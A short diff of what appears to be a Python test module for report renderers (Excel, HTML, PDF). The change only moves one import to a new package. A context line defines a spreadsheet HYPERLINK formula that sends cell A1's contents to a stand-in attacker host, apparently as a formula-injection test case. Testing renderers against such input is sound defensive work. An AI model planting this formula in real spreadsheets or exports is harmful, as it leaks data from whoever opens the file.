@@ -23,7 +23,7 @@ from utfall.evaluation.model import Report, ReportTable, Section
 from utfall.evaluation.render_excel import ABOUT_SHEET, HEADER_ROW, render_excel
 from utfall.evaluation.render_html import render_html
 from utfall.evaluation.render_pdf import render_pdf
-from utfall.evaluation.tasks import evaluation_year
+from utfall.orchestration.tasks import evaluation_year
 from utfall.suppression import TableSpec, suppress
 
 FORMULA = '=HYPERLINK("http://angripare.example/?"&A1,"Klicka här")'
